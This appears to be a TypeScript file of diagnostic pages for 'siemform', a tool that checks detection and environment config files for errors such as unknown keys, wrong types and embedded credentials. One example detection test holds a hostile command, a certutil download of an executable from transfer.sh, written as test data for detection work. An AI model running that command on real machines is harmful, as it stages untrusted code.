import type { CodePage } from "../../diagnostics";

const DETECTIONS = "siemform: docs/detections.md";
const CREDENTIALS = "siemform: docs/environments.md, Whose credential";

/** Pages of keys and values that a file should or should not have. */
export const VALUE_PAGES: readonly CodePage[] = [
  {
    code: "unknown-key",
    level: "error",
    title: "Every key of a file is one that siemform reads.",
    why: "What a key of another name says would be lost without a word. Most often it is misspelt, stands in the wrong place, or comes from another tool's format.",
    example: {
      language: "detection",
      wrong: `false_positives: [Software mirrors]
`,
      right: `falsePositives: [Software mirrors]
`,
    },
    source: `${DETECTIONS}; the JSON Schemas in schemas/`,
  },
  {
    code: "missing-key",
    level: "error",
    title: "What a file must say is there.",
    why: "There is no default that would be right for everybody, so that siemform asks instead of guessing.",
    example: {
      language: "detection",
      wrong: `tests:
  - name: certutil fetches an executable
    expect: fires
`,
      right: `tests:
  - name: certutil fetches an executable
    expect: fires
    behaviour: certutil -urlcache -f http://transfer.sh/x/a.exe
`,
    },
    source: `${DETECTIONS}; the JSON Schemas in schemas/`,
  },
  {
    code: "empty-value",
    level: "error",
    title: "A key has a value.",
    why: "YAML reads nothing as null, which is neither a text nor the default. It is most often a line that was to be filled in later.",
    example: {
      language: "detection",
      wrong: `owner:
`,
      right: `owner: detection-engineering
`,
    },
    source: `${DETECTIONS}; the JSON Schemas in schemas/`,
  },
  {
    code: "wrong-type",
    level: "error",
    title: "A value has the type that its key wants.",
    why: "YAML makes numbers, truth values, lists and mappings of texts that look like them: an id of digits loses its zeros, a version its last one.",
    example: {
      language: "detection",
      wrong: `authors: Jane Doe
`,
      right: `authors: [Jane Doe]
`,
    },
    source: `${DETECTIONS}; the JSON Schemas in schemas/`,
  },
  {
    code: "wrong-word",
    level: "error",
    title: "A word is one of those that its key takes.",
    why: "A service would refuse another word, or siemform would have to guess what it means.",
    example: {
      language: "detection",
      wrong: `severity: severe
`,
      right: `severity: high
`,
    },
    source: `${DETECTIONS}; the JSON Schemas in schemas/`,
  },
  {
    code: "wrong-value",
    level: "error",
    title: "A value has the form that its key wants.",
    why: "A day that the calendar lacks, an id with capitals or a length of time in seconds cannot be used; what would come of it is seen only when it is deployed.",
    example: {
      language: "detection",
      wrong: `reviewed: "2026-11-31"
`,
      right: `reviewed: "2026-11-30"
`,
    },
    source: `${DETECTIONS}; the JSON Schemas in schemas/`,
  },
  {
    code: "credential-key",
    level: "error",
    title: "No file has a key for a credential.",
    why: "Files are kept in a repository for ever and are read by many. Credentials come through the environment of the process, or by OIDC.",
    example: {
      language: "environment",
      wrong: `sumologic:
  accessKey: from the vault
`,
      right: `sumologic:
  userId: "00000000000000AB"
`,
    },
    source: CREDENTIALS,
  },
  {
    code: "credential-text",
    level: "error",
    title: "No file holds what looks like a credential.",
    why: "It would be in the repository's history, in the plan and in the SIEM. Whoever finds it can use it until it is revoked.",
    example: {
      language: "kql",
      wrong: `// AccountKey=${"0aB1".repeat(12)}==
DeviceNetworkEvents
| where TimeGenerated > ago(1h)
`,
      right: `DeviceNetworkEvents
| where TimeGenerated > ago(1h)
`,
    },
    source: CREDENTIALS,
  },
];
